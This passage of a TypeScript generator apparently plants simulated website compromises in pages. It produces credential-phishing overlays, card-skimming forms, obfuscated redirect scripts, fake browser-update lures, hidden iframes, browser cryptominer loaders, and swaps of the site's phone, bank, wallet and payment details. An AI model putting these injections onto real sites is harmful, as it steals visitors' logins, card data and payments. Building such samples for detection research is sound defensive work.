  fr: [["Votre session a expiré", "Reconnectez-vous avec votre compte {B} pour continuer.", "Adresse e-mail ou identifiant", "Mot de passe", "Se connecter"], ["Vérifiez votre compte", "Pour conserver l'accès aux services {B}, confirmez vos identifiants.", "Identifiant", "Mot de passe", "Valider"]],
  de: [["Ihre Sitzung ist abgelaufen", "Bitte melden Sie sich erneut mit Ihrem {B}-Konto an.", "E-Mail oder Benutzername", "Passwort", "Anmelden"], ["Konto bestätigen", "Um weiterhin Zugriff auf die Dienste von {B} zu haben, bestätigen Sie Ihre Zugangsdaten.", "Benutzername", "Passwort", "Bestätigen"]],
  es: [["Tu sesión ha caducado", "Vuelve a iniciar sesión con tu cuenta de {B} para continuar.", "Correo o usuario", "Contraseña", "Iniciar sesión"], ["Verifica tu cuenta", "Para mantener el acceso a los servicios de {B}, confirma tus credenciales.", "Usuario", "Contraseña", "Verificar"]],
  nl: [["Je sessie is verlopen", "Log opnieuw in met je {B}-account om verder te gaan.", "E-mail of gebruikersnaam", "Wachtwoord", "Inloggen"], ["Bevestig je account", "Bevestig je inloggegevens om toegang tot {B} te houden.", "Gebruikersnaam", "Wachtwoord", "Bevestigen"]],
  pt: [["Sua sessão expirou", "Entre novamente com sua conta {B} para continuar.", "E-mail ou usuário", "Senha", "Entrar"], ["Verifique sua conta", "Para manter o acesso aos serviços {B}, confirme seu login.", "Usuário", "Senha", "Verificar"]],
  it: [["La sessione è scaduta", "Accedi di nuovo con il tuo account {B} per continuare.", "E-mail o nome utente", "Password", "Accedi"], ["Verifica il tuo account", "Per mantenere l'accesso ai servizi {B}, conferma le tue credenziali.", "Nome utente", "Password", "Verifica"]]
}
const collector = (rng: Rng) => pick(rng, ["/login.php", "/auth/verify.php", "/owa/auth.php", "/sso/post.php", "/next.php", "/secure/signin.php", `/${alnum(rng, 6)}/index.php`, "/wp-includes/js/l.php"])

// Credential phishing on hacked university and council sites (a "session expired" or "verify your account" sign-in box laid over a real page, posting to a PHP script elsewhere): a modal sign-in form in the site's language.
const signInOverlay = fresh31("sign-in overlay in the site's language ('session expired', 'verify your account') whose username and password form posts to another host", (page, rng) => {
  const [h, p, u, pw, b] = pick(rng, say(page, signIn))
  const B = brandName(page)
  const action = `https://${evilHost(rng, page)}${collector(rng)}`
  const form = `<form action="${esc(action)}" method="post"><h2>${esc(h)}</h2><p>${esc(fill(p, { B }))}</p><input type="text" name="${pick(rng, ["user", "login", "email", "username"])}" placeholder="${esc(u)}"><input type="password" name="${pick(rng, ["pass", "password", "pwd"])}" placeholder="${esc(pw)}"><button type="submit">${esc(b)}</button></form>`
  const modal = chance(rng, 0.7)
  const html = modal
    ? `<div class="${pick(rng, ["modal", "login-modal", "overlay", "session-timeout"])}" style="position:fixed;inset:0;background:rgba(0,0,0,.${between(rng, 5, 9)});z-index:${pick(rng, ["9999", "100000", "2147483647"])};display:flex;align-items:center;justify-content:center"><div style="background:#fff;padding:24px;max-width:380px">${form}</div></div>`
    : `<div class="${pick(rng, ["login-box", "portal-login", "account"])}">${form}</div>`
  return splices(insert(modal ? pick(rng, [top(page), bottom(page)]) : blockSpot(rng, page), html))
})

const cardWords: T<readonly [ReadonlyArray<string>, string, string, string, string, string]> = {
  en: [["Donate by card", "Pay online", "Quick payment"], "Cardholder name", "Card number", "Expiry (MM/YY)", "Security code", "Pay now"],
  fr: [["Faire un don par carte", "Paiement en ligne", "Paiement rapide"], "Nom du titulaire", "Numéro de carte", "Expiration (MM/AA)", "Cryptogramme", "Payer"],
  de: [["Spenden per Karte", "Online bezahlen", "Schnell bezahlen"], "Karteninhaber", "Kartennummer", "Gültig bis (MM/JJ)", "Prüfnummer", "Jetzt bezahlen"],
  es: [["Dona con tarjeta", "Pago en línea", "Pago rápido"], "Titular de la tarjeta", "Número de tarjeta", "Caducidad (MM/AA)", "CVV", "Pagar"],
  nl: [["Doneer met je kaart", "Online betalen", "Snel betalen"], "Naam kaarthouder", "Kaartnummer", "Vervaldatum (MM/JJ)", "CVC", "Nu betalen"],
  pt: [["Doe com cartão", "Pagamento online", "Pagamento rápido"], "Nome no cartão", "Número do cartão", "Validade (MM/AA)", "CVV", "Pagar agora"],
  it: [["Dona con carta", "Paga online", "Pagamento rapido"], "Intestatario", "Numero di carta", "Scadenza (MM/AA)", "CVV", "Paga ora"]
}

// Fake payment and donation forms injected into charity, club and shop pages (Magecart-style "double entry" forms that ask for the card on a page that never took cards): a card form in the site's language, posting to another host.
const cardForm = fresh31("card payment or donation form in the site's language (cardholder, card number, expiry, security code) added to the page, posting to another host", (page, rng) => {
  const [heads, name, num, exp, cvc, btn] = say(page, cardWords)
  const action = `https://${evilHost(rng, page)}${pick(rng, ["/pay.php", "/checkout/process", "/api/v2/pay", "/donate/submit.php", "/gate.php", `/${alnum(rng, 5)}.php`])}`
  const amount = chance(rng, 0.6) ? `<select name="amount">${[10, 25, 50, 100].map((a) => `<option>${esc(page.site.locale.money(a))}</option>`).join("")}</select>` : ""
  const form = `<form class="${pick(rng, ["payment-form", "donate-form", "card-form"])}" action="${esc(action)}" method="post"><h3>${esc(pick(rng, heads))}</h3>${amount}<input name="cc_name" placeholder="${esc(name)}"><input name="${pick(rng, ["cc_number", "cardnumber", "pan"])}" inputmode="numeric" placeholder="${esc(num)}"><input name="cc_exp" placeholder="${esc(exp)}"><input name="${pick(rng, ["cvv", "cvc", "cc_cvv"])}" placeholder="${esc(cvc)}"><button type="submit">${esc(btn)}</button></form>`
  const f = forms(page)[0]
  const at = f !== undefined && f.closeTag !== null && chance(rng, 0.6) ? f.closeTag.end : blockSpot(rng, page)
  return splices(insert(at, form))
})

// Mobile-only redirects on hacked sites (an inline user-agent test sending phones to scam or adult pages once a day, so the owner on a desktop never sees it), described in many Sucuri write-ups: one inline script in the head or body.
const phoneOnlyRedirect = fresh31("inline script sending only phone visitors (user-agent test, once a day by cookie) to a scam site on another host", (page, rng) => {
  const url = `https://${evilHost(rng, page)}/${pick(rng, ["", "?s=" + alnum(rng, 6), "go/" + alnum(rng, 5), "lp/" + between(rng, 1, 99), "win"])}`
  const c = alnum(rng, 4)
  const code = pick(rng, [
    `if(/Android|iPhone|iPad|iPod|Mobile/i.test(navigator.userAgent)&&document.cookie.indexOf("${c}=1")<0){document.cookie="${c}=1;max-age=86400;path=/";location.replace("${url}")}`,
    `(function(){var u=navigator.userAgent||"";if(/android|iphone|mobi/i.test(u)&&!localStorage.getItem("${c}")){localStorage.setItem("${c}",Date.now());window.location.href="${url}"}})()`,
    `if(window.innerWidth<${pick(rng, [600, 768, 800])}&&"ontouchstart" in window){setTimeout(function(){top.location="${url}"},${between(rng, 0, 3000)})}`
  ])
  return splices(insert(pick(rng, [head(page), headStart(page), top(page), bottom(page)]), `<script${chance(rng, 0.4) ? ` type="text/javascript"` : ""}>${code}</script>`))
})

// Search-engine cloaking redirects ("SEO spam" hacks that send only visitors arriving from Google or Bing to spam pages, the URL hidden with base64 or character codes): one obfuscated inline script testing document.referrer.
const searchReferrerRedirect = fresh31("obfuscated inline script (base64 or character codes) redirecting visitors who arrive from a search engine to another host, others see the page unchanged", (page, rng) => {
  const url = `https://${evilHost(rng, page)}/${pick(rng, ["", "?q=" + slug(page.site.brand), "in.php?id=" + digits(rng, 5), "r/" + alnum(rng, 6)])}`
  const enc = chance(rng, 0.5) ? `atob("${Buffer.from(url, "utf8").toString("base64")}")` : `String.fromCharCode(${[...url].map((c) => c.charCodeAt(0)).join(",")})`
  const v = pick(rng, ["r", "_0x" + hex(rng, 4), "ref", "a"])
  const code = pick(rng, [
    `var ${v}=document.referrer;if(/google\\.|bing\\.|yahoo\\.|duckduckgo\\.|yandex\\./i.test(${v})){window.location=${enc}}`,
    `(function(${v}){if(${v}&&${v}.match(/(google|bing|yahoo|baidu|yandex)\\./)){document.location.href=${enc}}})(document.referrer)`
  ])
  return splices(insert(pick(rng, [head(page), headStart(page), top(page)]), `<script>${code}</script>`))
})

const updateWords: T<ReadonlyArray<readonly [string, string]>> = {
  en: [["Your browser is out of date. Update it to view this page correctly.", "Update now"], ["The \"HoeflerText\" font was not found. Install it to display this page.", "Download font"], ["Critical security update required for your browser.", "Install update"]],
  fr: [["Votre navigateur n'est plus à jour. Mettez-le à jour pour afficher cette page.", "Mettre à jour"], ["Police « HoeflerText » introuvable. Installez-la pour afficher la page.", "Télécharger"]],
  de: [["Ihr Browser ist veraltet. Bitte aktualisieren Sie ihn, um diese Seite anzuzeigen.", "Jetzt aktualisieren"], ["Die Schriftart „HoeflerText“ fehlt. Installieren Sie sie, um die Seite anzuzeigen.", "Schrift laden"]],
  es: [["Tu navegador está desactualizado. Actualízalo para ver esta página.", "Actualizar ahora"], ["No se encontró la fuente \"HoeflerText\". Instálala para ver la página.", "Descargar fuente"]],
  nl: [["Je browser is verouderd. Werk hem bij om deze pagina goed te bekijken.", "Nu bijwerken"], ["Het lettertype \"HoeflerText\" ontbreekt. Installeer het om de pagina te tonen.", "Lettertype downloaden"]],
  pt: [["Seu navegador está desatualizado. Atualize para ver esta página.", "Atualizar agora"], ["A fonte \"HoeflerText\" não foi encontrada. Instale-a para ver a página.", "Baixar fonte"]],
  it: [["Il tuo browser non è aggiornato. Aggiornalo per visualizzare la pagina.", "Aggiorna ora"], ["Font \"HoeflerText\" non trovato. Installalo per visualizzare la pagina.", "Scarica font"]]
}

// Fake browser-update and missing-font lures on compromised sites (SocGholish/FakeUpdates, the "HoeflerText" font lure, ClearFake), which offer an archive or installer from another host: a banner with a download button, sometimes with its loader script.
const fakeUpdatePrompt = fresh31("fake 'update your browser' or 'missing font' prompt with a download button to an archive or installer on another host (FakeUpdates / HoeflerText style), sometimes with its loader script", (page, rng) => {
  const [msg, btn] = pick(rng, siteOr(rng, page, updateWords))
  const host = evilHost(rng, page)
  const ver = `${between(rng, 110, 131)}.0.${between(rng, 1000, 6999)}.${between(rng, 10, 200)}`
  const file = pick(rng, [`Chrome.Update.${ver}.zip`, `Update.${ver}.js`, `Firefox_Setup_${between(rng, 115, 133)}.msix`, `Edge-Update-${ver}.exe`, `HoeflerText.zip`, `Font_Chrome.exe`, `browser_update.${pick(rng, ["zip", "msi", "exe"])}`])
  const dl = `https://${host}/${pick(rng, ["download", "dl", "update", "files"])}/${file}`
  const box = `<div class="${pick(rng, ["browser-update", "update-notice", "font-missing"])}" style="position:fixed;${pick(rng, ["top", "bottom"])}:0;left:0;right:0;z-index:${pick(rng, ["99999", "2147483647"])};background:${pick(rng, ["#fff", "#f1f3f4", "#222"])};padding:16px;text-align:center;box-shadow:0 0 12px #000"><p>${esc(msg)}</p><a href="${esc(dl)}" download style="display:inline-block;padding:8px 18px;background:#1a73e8;color:#fff">${esc(btn)}</a></div>`
  const loader = chance(rng, 0.4) ? `<script src="https://${evilHost(rng, page)}/${pick(rng, ["report", "s", "js/update"])}?${alnum(rng, 12)}" async></script>` : ""
  return splices(insert(pick(rng, [top(page), bottom(page)]), box + loader))
})

const spamTerms = [
  "online casino", "best online casino", "casino bonus", "buy viagra online", "cheap cialis", "generic viagra", "payday loans", "instant payday loans",
  "essay writing service", "write my essay", "replica watches", "slot gacor", "situs judi online", "judi bola", "bitcoin casino", "cheap flights", "sports betting tips", "kredit ohne schufa", "casino en ligne", "apuestas deportivas"
]

// SEO spam injection (casino, pharmacy, loan and essay links hidden in a site's body for search engines, the "pharma hack" and Indonesian gambling-link campaigns): a block of links to other hosts hidden off-screen or by style.
const hiddenSpamLinks = fresh31("block of spam links (casino, pharmacy, payday loans, essay writing, gambling) hidden off-screen or by style in the body for search engines", (page, rng) => {
  const n = between(rng, 4, 25)
  const items = Array.from({ length: n }, () => {
    const t = pick(rng, spamTerms)
    return `<a href="https://${chance(rng, 0.3) ? `${slug(t)}.${pick(rng, ["com", "net", "xyz", "online", "site"])}` : randomDomain(rng)}/${chance(rng, 0.5) ? slug(t) : ""}">${esc(t)}</a>`
  })
  const style = pick(rng, ["position:absolute;left:-9999px;top:-9999px", "display:none", "overflow:hidden;height:0;width:0", "font-size:0;line-height:0", "position:absolute;clip:rect(0,0,0,0)", "opacity:0;position:absolute;z-index:-1"])
  const sep = pick(rng, [" ", " | ", ", ", "<br>"])
  const html = chance(rng, 0.5) ? `<div style="${style}">${items.join(sep)}</div>` : `<div style="${style}"><ul>${items.map((i) => `<li>${i}</li>`).join("")}</ul></div>`
  return splices(insert(pick(rng, [top(page), bottom(page), anySlot(rng, page.spots)]), html))
})

// Hidden iframe injections (zero-size or off-screen frames loading a traffic-distribution system or exploit kit page, the "iframe injection" of countless incident write-ups): one invisible iframe in the body.
const invisibleFrame = fresh31("invisible iframe (zero size, hidden or off-screen) loading a traffic-distribution or exploit page from another host", (page, rng) => {
  const src = `https://${evilHost(rng, page)}/${pick(rng, ["", "tds/", "in.cgi?", "go.php?sid=", "counter/", "stat?"])}${alnum(rng, 6)}`
  const look = pick(rng, [
    ` width="0" height="0" frameborder="0"`,
    ` width="1" height="1" style="visibility:hidden;position:absolute"`,
    ` style="position:absolute;left:-${between(rng, 500, 5000)}px;top:0;width:${between(rng, 100, 600)}px;height:${between(rng, 100, 600)}px"`,
    ` style="display:none"`,
    ` width="1" height="1" style="opacity:0"`
  ])
  return splices(insert(pick(rng, [top(page), bottom(page), anySlot(rng, page.spots)]), `<iframe src="${esc(src)}"${look}></iframe>`))
})

// Browser cryptojacking (Coinhive and its clones on hacked government, university and shop sites, 2017 onwards): a miner library from another host and an inline start with the intruder's site key and a throttle.
const browserMiner = fresh31("browser cryptominer (Coinhive, CoinImp, CryptoLoot or WebMinePool style) loaded from another host and started with the intruder's site key and a throttle", (page, rng) => {
  const host = pick(rng, [randomDomain(rng), libLookalike(rng)])
  const [lib, start] = pick(rng, [
    ["coinhive.min.js", (k: string, t: string) => `var miner=new CoinHive.Anonymous("${k}",{throttle:${t}});miner.start();`],
    ["lib/crlt.js", (k: string, t: string) => `var miner=new CRLT.Anonymous("${k}",{threads:${between(rng, 2, 8)},throttle:${t}});miner.start();`],
    ["scripts/webmr.js", (k: string, t: string) => `var _client=new Client.Anonymous("${k}",{throttle:${t},c:"w"});_client.start();`],
    [`${pick(rng, ["m", "w", "cryptonight"])}.js`, (k: string, t: string) => `startMining("${pick(rng, ["moneroocean.stream", "pool.supportxmr.com", "xmrpool.eu"])}","4${base58(rng, 40)}","${k}",${t});`]
  ] as const)
  const key = alnum(rng, between(rng, 32, 64))
  const t = `0.${between(rng, 1, 7)}`
  return splices(insert(pick(rng, [head(page), bottom(page), top(page)]), `<script src="https://${host}/${lib}"></script><script>${start(key, t)}</script>`))
})

// Form hijacking via a mail script planted on an unrelated, already-compromised small-business WordPress site (phishing kits and form-grabbers often post to such a "mailer.php"): one of the site's forms posting there.
const formToThirdParty = fresh31("one of the site's forms posting to a mail script planted on an unrelated, compromised small-business site (a .php under wp-content, wp-includes or an uploads folder)", (page, rng) => {
  const biz = `${pick(rng, ["smith", "bella", "green", "sunny", "oak", "lake", "mountain", "city", "happy", "blue", "royal", "family"])}${pick(rng, ["-", ""])}${pick(rng, ["plumbing", "dental", "yoga", "bakery", "roofing", "motors", "florist", "salon", "pets", "tours", "builders", "lawfirm"])}.${pick(rng, ["com", "net", "co.uk", "com.au", "ca", "de", "co.za", "in", "com.br", "info"])}`
  const path = pick(rng, [`/wp-content/plugins/${pick(rng, ["wp-mail", "contact-7", "akismet", "hello", "seo"])}/${pick(rng, ["mail", "post", "send", "next"])}.php`, `/wp-includes/${pick(rng, ["css", "js", "fonts"])}/${alnum(rng, 5)}.php`, `/wp-content/uploads/${between(rng, 2019, 2025)}/${String(between(rng, 1, 12)).padStart(2, "0")}/${pick(rng, ["mailer", "post", "form"])}.php`, `/images/.${alnum(rng, 4)}/send.php`])
  const url = `https://${chance(rng, 0.5) ? "www." : ""}${biz}${path}`
  const fs = forms(page)
  if (fs.length > 0) {
    const f = chance(rng, 0.6) ? fs[0]! : pick(rng, fs)
    const out = [setAttr(page, f, "action", url)]
    if ((f.attribs.method ?? "").toLowerCase() !== "post" && chance(rng, 0.5)) out.push(setAttr(page, f, "method", "post"))
    return { splices: out }
  }
  return splices(insert(slotAt(page.spots, "bottom"), `<form action="${esc(url)}" method="post"><input type="email" name="email" placeholder="${esc(page.site.words.yourEmail)}"><button type="submit">${esc(page.site.words.subscribe)}</button></form>`))
})

const payWhat: T<ReadonlyArray<string>> = {
  en: ["Pay your parking fine online", "Pay your council tax online", "Pay tuition fees online", "Settle your outstanding invoice", "Pay your water bill", "Renew your membership online"],
  fr: ["Payer votre amende en ligne", "Régler votre facture d'eau", "Payer vos frais de scolarité", "Régler une facture en attente", "Renouveler votre adhésion"],
  de: ["Bußgeld online bezahlen", "Gebührenbescheid online begleichen", "Studiengebühren online zahlen", "Offene Rechnung begleichen", "Mitgliedschaft online verlängern"],
  es: ["Paga tu multa en línea", "Paga tu recibo del agua", "Paga la matrícula en línea", "Abona tu factura pendiente", "Renueva tu cuota de socio"],
  nl: ["Betaal uw parkeerboete online", "Betaal uw gemeentelijke belastingen", "Betaal het collegegeld online", "Openstaande factuur betalen", "Verleng uw lidmaatschap"],
  pt: ["Pague sua multa online", "Pague seu IPTU online", "Pague a mensalidade online", "Quite sua fatura em aberto", "Renove sua associação"],
  it: ["Paga la tua multa online", "Paga la TARI online", "Paga le tasse universitarie", "Salda la fattura in sospeso", "Rinnova l'iscrizione online"]
}

// Payment-portal phishing on public and school sites (fake "pay your fine / tax / fees" buttons sending citizens and students to a look-alike portal, as in parking-fine and tuition smishing campaigns): one button in the site's language.
const lookalikePayPortal = fresh31("'pay your bill, fine or fees online' button in the site's language linking to a payment page on a look-alike of the organisation's domain", (page, rng) => {
  const text = pick(rng, say(page, payWhat))
  const url = `https://${lookHost(rng, page)}/${pick(rng, ["pay", "payments", "epay", "portal/pay", "billing", "e-services/pay"])}${chance(rng, 0.5) ? `?ref=${upper(rng, 2)}${digits(rng, 6)}` : ""}`
  const html = `<a class="${pick(rng, ["button", "btn btn-primary", "cta", "pay-online"])}" href="${esc(url)}">${esc(text)}</a>`
  if (chance(rng, 0.35)) return splices(lineBeside(page, [page.ids.email, page.ids.phone.intl], html, slotAt(page.spots, "top")))
  return splices(insert(blockSpot(rng, page), `<p class="${pick(rng, ["cta", "service-link", "quick-links"])}">${html}</p>`))
})

// Traffic hijacking (every outbound link on a hacked blog or news page routed through the intruder's redirector for affiliate fraud or to count and divert clicks): the page's links to other sites rewritten through a redirector with the original address in a parameter.
const outboundRedirector = fresh31("the page's outbound links rewritten to pass through a redirector on another host (original address kept in a query parameter)", (page, rng) => {
  const host = evilHost(rng, page)
  const param = pick(rng, ["u", "url", "to", "dest", "goto", "l"])
  const path = pick(rng, ["/go", "/out", "/r", "/redirect", "/away.php", "/click"])
  const aff = chance(rng, 0.4) ? `&${pick(rng, ["aff", "ref", "sub", "cid"])}=${alnum(rng, 6)}` : ""
  const all = links(page)
  const outbound = all.filter((a) => !isOwn(page, a.attribs.href ?? ""))
  const pool = outbound.length > 0 ? outbound : sample(rng, all, Math.max(1, Math.round(all.length / 3)))
  if (pool.length === 0) return splices(insert(bottom(page), `<p><a href="https://${host}${path}?${param}=${encodeURIComponent(page.site.url)}">${esc(brandName(page))}</a></p>`))
  return splices(...pool.slice(0, 200).map((a) => {
    const abs = resolve(page, a.attribs.href ?? "")?.href ?? (a.attribs.href ?? "")
    return setAttr(page, a, "href", `https://${host}${path}?${param}=${encodeURIComponent(abs)}${aff}`)
  }))
})

// ———————————————————————————— identifiers visitors copy or trust ————————————————————————————

// Call diversion (a hacked page's phone number swapped for one the intruder answers, in refund, booking and "support" scams): the site's number replaced everywhere, both notations and the tel: link, by another number in the same national format.
const phoneEverywhere = fresh31("site's phone number replaced in every place (national and international forms and the tel: link) by another number in the same national format", (page, rng) => {
  const p = page.ids.phone
  const np = swapPhone(page.site.locale, p, rng)
  const out = replaceEverywhere(page, changing([[p.intl, np.intl], [p.national, np.national], [p.tel, np.tel]]))
  if (out.length > 0) return { splices: out }
  return splices(lineBeside(page, [page.ids.email], `${esc(page.site.words.phone)}: ${esc(np.national)}`, slotAt(page.spots, "bottom")))
})

/** The site's brand on another top-level domain or with a word added, as a mail domain. */
const otherTld = (rng: Rng, page: Page): string => {
  const dom = page.site.domain
  const label = dom.split(".")[0] ?? "site"
  const rest = dom.slice(label.length + 1)
  const tlds = ["com", "net", "org", "co", "info", "email", "support", "online", "eu", "co.uk", "de", "fr", "us", "io"].filter((t) => t !== rest)
  return pick(rng, [
    () => `${label}.${pick(rng, tlds)}`,
    () => `${label}-${pick(rng, ["mail", "office", "online", "group", "team", "info"])}.${pick(rng, [rest, ...tlds.slice(0, 4)])}`,
    () => `${label}${pick(rng, ["mail", "hq", "office"])}.${rest}`
  ])()
}

// Business-e-mail-compromise style mailbox swaps (the address on a hacked site changed to the same name on a domain registered by the intruder, e.g. another top-level domain): the site's e-mail replaced everywhere, text and mailto: links.
const emailOtherTld = fresh31("site's e-mail address replaced everywhere (text and mailto: links) by the same mailbox name on the organisation's name under another top-level domain or with a word added", (page, rng) => {
  const [local] = page.ids.email.split("@") as [string]
  const next = `${local}@${otherTld(rng, page)}`
  const out = replaceEverywhere(page, changing([[page.ids.email, next]]))
  if (out.length > 0) return { splices: out }
  return splices(lineBeside(page, [page.ids.phone.intl], `${esc(page.site.words.email)}: ${esc(next)}`, slotAt(page.spots, "bottom")))
})

// Payment diversion to money-mule accounts abroad (fraud-centre warnings about charities', schools' and landlords' pages whose bank details were changed to an account in another country): the site's account replaced by a valid account of another country, grouped like the original.
const bankAbroad = fresh31("site's bank account replaced by a valid account in another country (a money-mule IBAN, grouped like the original), or such a bank line added where the site shows none", (page, rng) => {
  const b = page.ids.bank
  const foreign = locales.filter((l) => l.iban !== null && l.country !== page.site.locale.country)
  const compact = pick(rng, foreign).iban!(rng)
  if (b !== null) {
    const grouped = /\s/.test(b.value) || b.kind === "national"
    const next = b.kind === "iban" ? (grouped ? groupIban(compact) : compact) : `IBAN ${groupIban(compact)}`
    const out = textOcc(page, b.value).map((r) => replace(r, esc(next)))
    if (out.length > 0) return { splices: out }
  }
  const w = page.site.words
  return splices(lineBeside(page, [page.ids.email, page.ids.phone.intl], esc(`${w.bank}: IBAN ${chance(rng, 0.7) ? groupIban(compact) : compact}`), slotAt(page.spots, "bottom")))
})

// Donation-address swaps (charities' and creators' crypto addresses replaced on hacked pages, often moved to a stablecoin on TRON because it is cheap to cash out): the wallet replaced by an address of another coin, its label changed too.
const walletOtherCoin = fresh31("donation wallet replaced by an address of another coin with its label changed too (e.g. BTC to USDT on TRC20), or such a wallet line added", (page, rng) => {
  const wal = page.ids.wallet
  const coins = (["BTC", "ETH", "USDT (TRC20)", "XMR"] as const).filter((c) => c !== wal?.coin)
  const coin = chance(rng, 0.5) && wal?.coin !== "USDT (TRC20)" ? "USDT (TRC20)" : pick(rng, coins)
  const nw = makeWallet(rng, coin)
  if (wal !== null) {
    const out: Array<Splice> = []
    for (const r of textOcc(page, wal.address).concat(occurrences(page, wal.address).filter((o) => !inText(page, o)))) {
      out.push(replace(r, nw.address))
      const before = page.html.slice(Math.max(0, r.start - 40), r.start)
      const i = before.lastIndexOf(wal.coin)
      if (i >= 0) {
        const at = r.start - before.length + i
        if (!insideRaw(page.spots, at) && !out.some((s) => s.at === at)) out.push(replace({ start: at, end: at + wal.coin.length }, esc(coin)))
      }
    }
    if (out.length > 0) return { splices: out }
  }
  return splices(lineBeside(page, [page.ids.email, page.ids.phone.intl], `${esc(page.site.words.donate)}: ${esc(coin)} ${chance(rng, 0.5) ? `<code>${nw.address}</code>` : nw.address}`, slotAt(page.spots, "bottom")))
})

// Payment handles swapped for a private person's account on the same service (hacked club, charity and creator pages whose PayPal.me, Venmo or PIX key was changed to a mule's): the handle and its link changed.
const handleToPerson = fresh31("payment handle (PayPal.me, Venmo, Cash App, Revolut, PIX key) switched to a private person's account on the same service, or such a handle added", (page, rng) => {
  const pay = page.ids.pay
  const name = person(rng, chance(rng, 0.6))
  if (pay !== null) {
    if (pay.href !== null) {
      const old = (pay.href.split("/").pop() ?? "").replace(/^\$/, "")
      const href = old === "" ? pay.href : pay.href.slice(0, pay.href.length - old.length) + (pay.href.includes("revolut") ? name.toLowerCase() : name)
      const shownAs = old === "" ? pay.shown : pay.shown.replace(old, pay.href.includes("revolut") ? name.toLowerCase() : name)
      const out = replaceEverywhere(page, changing([[pay.href, href], [pay.shown, shownAs]]))
      if (out.length > 0) return { splices: out }
    } else {
      const key = pick(rng, [`${digits(rng, 3)}.${digits(rng, 3)}.${digits(rng, 3)}-${digits(rng, 2)}`, `${name.toLowerCase()}@gmail.com`, `+55 ${pick(rng, ["11", "21", "31"])} 9${digits(rng, 4)}-${digits(rng, 4)}`])
      const out = textOcc(page, pay.shown).map((r) => replace(r, esc(`Chave PIX: ${key}`)))
      if (out.length > 0) return { splices: out }
    }
  }
  const handle = pick(rng, [`paypal.me/${name}`, `revolut.me/${name.toLowerCase()}`])
  return splices(lineBeside(page, [page.ids.email, page.ids.phone.intl], `${esc(page.site.words.payWith)} <a href="https://${chance(rng, 0.5) && handle.startsWith("paypal") ? "www." : ""}${handle}">${esc(handle)}</a>`, slotAt(page.spots, "bottom")))
})

/** The same network's profile URL for `handle`, from a profile URL of the site. */
const sameNetwork = (href: string, handle: string): string => {
  if (/(x|twitter)\.com\//.test(href)) return `https://x.com/${handle}`
  if (/facebook\.com\//.test(href)) return `https://www.facebook.com/${handle}`
  if (/instagram\.com\//.test(href)) return `https://www.instagram.com/${handle.toLowerCase()}/`
  if (/linkedin\.com\//.test(href)) return `https://www.linkedin.com/in/${handle.toLowerCase()}`
  if (/youtube\.com\//.test(href)) return `https://www.youtube.com/@${handle}`
  if (/t\.me\//.test(href)) return `https://t.me/${handle.toLowerCase()}`
  return `https://t.me/${handle.toLowerCase()}`
}

// Defacers advertising themselves through a site's own follow-us links (the crew's Telegram channel, Instagram or X account in place of the organisation's, seen on defaced pages that otherwise look normal): every follow-us link pointed at the crew's accounts.
const followCrew = fresh31("every follow-us link pointed at the defacer crew's own accounts on the same networks (Telegram, Instagram, X...), link texts unchanged", (page, rng) => {
  const handle = (chance(rng, 0.5) ? team(rng) : nick(rng)).replace(/[^A-Za-z0-9_]/g, chance(rng, 0.5) ? "_" : "").replace(/_+/g, "_").replace(/^_|_$/g, "") || `crew${digits(rng, 3)}`
  const socials = page.ids.social.filter((s) => s.href !== null && occurrences(page, s.href).length > 0)
  const out = replaceEverywhere(page, changing(socials.map((s) => [s.href!, sameNetwork(s.href!, handle)] as const)))
  if (out.length > 0) return { splices: out }
  return splices(lineBeside(page, [page.ids.email], `${esc(page.site.words.follow)}: <a href="https://t.me/${handle.toLowerCase()}">Telegram</a>`, slotAt(page.spots, "bottom")))
})

const chatText: T<ReadonlyArray<string>> = {
  en: ["Chat with us on WhatsApp", "Questions? WhatsApp us", "Customer service on WhatsApp"], fr: ["Discutez avec nous sur WhatsApp", "Une question ? WhatsApp"], de: ["Schreiben Sie uns auf WhatsApp", "Fragen? WhatsApp"],
  es: ["Escríbenos por WhatsApp", "¿Dudas? WhatsApp"], nl: ["Chat met ons via WhatsApp", "Vragen? WhatsApp ons"], pt: ["Fale conosco no WhatsApp", "Dúvidas? Chame no WhatsApp"], it: ["Scrivici su WhatsApp", "Domande? WhatsApp"]
}

// Support-impersonation through a hacked site (a floating "chat with us on WhatsApp" button added by the intruder, leading to a number that then asks for payments or card codes): one fixed button with a wa.me link to a number that is not the organisation's.
const whatsappFloat = fresh31("floating 'chat with us on WhatsApp' button whose wa.me link goes to a number that is not the organisation's (same country or abroad)", (page, rng) => {
  const num = chance(rng, 0.5) ? swapPhone(page.site.locale, page.ids.phone, rng).tel.slice(1) : `${pick(rng, ["447", "2348", "628", "1876", "2547", "92", "9715"])}${digits(rng, pick(rng, [8, 9]))}`
  const text = pick(rng, say(page, chatText))
  const greet = chance(rng, 0.5) ? encodeURIComponent(pick(rng, ["Hello", "Hi, I need help with my order", "Bonjour", "Hallo", "Hola", "Olá", "Ciao"])) : ""
  const href = chance(rng, 0.7) ? `https://wa.me/${num}${greet === "" ? "" : `?text=${greet}`}` : `https://api.whatsapp.com/send?phone=${num}${greet === "" ? "" : `&text=${greet}`}`
  const side = pick(rng, ["right", "left"])
  const fixed = `<a class="${pick(rng, ["whatsapp-float", "wa-button", "chat-float"])}" href="${esc(href)}" style="position:fixed;bottom:${between(rng, 12, 40)}px;${side}:${between(rng, 12, 40)}px;z-index:${between(rng, 999, 99999)};background:#25d366;color:#fff;border-radius:${pick(rng, ["50px", "8px"])};padding:12px 16px">${esc(text)}</a>`
  return splices(insert(pick(rng, [bottom(page), top(page)]), fixed))
})

const scanWords: T<ReadonlyArray<string>> = {
  en: ["Scan to donate", "Scan to pay", "Pay by QR code"], fr: ["Scannez pour faire un don", "Scannez pour payer"], de: ["Scannen und spenden", "Per QR-Code bezahlen"],
  es: ["Escanea para donar", "Escanea para pagar"], nl: ["Scan om te doneren", "Scan om te betalen"], pt: ["Escaneie para doar", "Pague com QR code"], it: ["Inquadra per donare", "Paga con il QR code"]
}

// QR-code payment fraud ("quishing": a "scan to pay" or "scan to donate" code on a charity's, restaurant's or council's page that encodes the fraudster's payment link or address): one QR picture beside the contact lines.
const qrToFraud = fresh31("'scan to pay' or 'scan to donate' QR code whose encoded link is a payment address or page that is not the organisation's, beside its contact lines or near the top", (page, rng) => {
  const data = pick(rng, [
    () => `https://www.paypal.me/${person(rng, true)}`,
    () => `bitcoin:bc1q${alnum(rng, 38)}`,
    () => `https://${lookHost(rng, page)}/pay/${alnum(rng, 8)}`,
    () => `https://${randomDomain(rng)}/p/${alnum(rng, 6)}`,
    () => `https://revolut.me/${person(rng, false).replace(/[._]/g, "")}`
  ])()
